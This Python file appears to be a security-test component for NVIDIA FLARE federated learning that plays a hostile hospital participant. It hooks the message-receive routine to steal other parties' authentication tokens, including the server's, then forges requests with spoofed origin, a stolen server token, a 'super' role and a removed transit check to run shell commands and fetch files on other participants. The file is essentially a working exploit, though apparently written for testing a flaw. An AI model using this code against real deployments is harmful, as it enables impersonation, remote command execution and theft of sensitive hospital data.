"""A hostile hospital: a component of its own kit that asks other participants for files and commands.

It runs in the hospital's own FLARE process, with the hospital's certificate and token.
"""

import json
import os
import threading
import time
from pathlib import Path

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, CellMessageHeaderKeys, RequestHeader, SysCommandTopic, new_cell_message

PLAN, ANSWERS = "attack.json", "answers.json"
"""In the attacker's kit."""
SERVER = "server"
TOKENS = {}
"""By whose name; FLARE's server sends its own with every message."""
receive = CoreCell._process_received_msg


def collect(core, endpoint, connection, message):
    """Note the token of whoever has sent the message."""
    if message.get_header(CellMessageHeaderKeys.TOKEN_SIGNATURE):
        keys = (CellMessageHeaderKeys.CLIENT_NAME, CellMessageHeaderKeys.TOKEN, CellMessageHeaderKeys.TOKEN_SIGNATURE)
        TOKENS[message.get_header(keys[0])] = {key: message.get_header(key) for key in keys}
    receive(core, endpoint, connection, message)


class Attacker(FLComponent):
    """Carries out the plans that a test puts into its kit."""

    def __init__(self):
        super().__init__()
        CoreCell._process_received_msg = collect
        self.register_event_handler(EventType.SYSTEM_START, self._start)

    def _start(self, event_type, fl_ctx):
        engine = fl_ctx.get_engine()
        folder = Path(engine.args.workspace)
        threading.Thread(target=attack, args=(engine.client.cell, folder), daemon=True).start()


def attack(cell, folder):
    """Wait for plans, and write what each request of a plan gets."""
    while True:
        plan = folder / PLAN
        if plan.is_file():
            requests = json.loads(plan.read_text())
            plan.unlink()
            answers = [answer(cell, **request) for request in requests]
            (folder / "answers.tmp").write_text(json.dumps(answers))
            os.replace(folder / "answers.tmp", folder / ANSWERS)
        time.sleep(0.2)


def answer(cell, target, topic=SysCommandTopic.SHELL, body="", channel=CellChannel.CLIENT_MAIN, origin=""):
    """What a participant answers; with ``origin`` the request is sent in this name.

    FLARE's server compares the origin with the sender's token, but accepts its own token from everybody.
    """
    message = Message(topic=topic, body=body)
    message.set_header(RequestHeader.USER_NAME, "researcher@grandrounds.example")
    message.set_header(RequestHeader.USER_ROLE, "super")
    message.set_header(RequestHeader.JOB_ID, "00000000-0000-0000-0000-000000000000")
    request = new_cell_message({}, message)
    send = CoreCell._send_to_endpoint

    def forged(core, to_endpoint, message):
        if message.get_header(MessageHeaderKey.DESTINATION) == target:
            message.set_header(MessageHeaderKey.ORIGIN, origin)
            message.headers.update(TOKENS.get(SERVER, {}))
            message.remove_header(MessageHeaderKey.SERVER_TRANSIT_REQUIRED)
        return send(core, to_endpoint, message)

    if origin:
        CoreCell._send_to_endpoint = forged
    try:
        reply = cell.send_request(channel, topic, target, request, timeout=5.0)
    finally:
        CoreCell._send_to_endpoint = send
    said = reply.payload.body if isinstance(reply.payload, Message) else repr(reply.payload)
    return {"tokens": sorted(TOKENS), "code": reply.get_header(MessageHeaderKey.RETURN_CODE), "said": said}
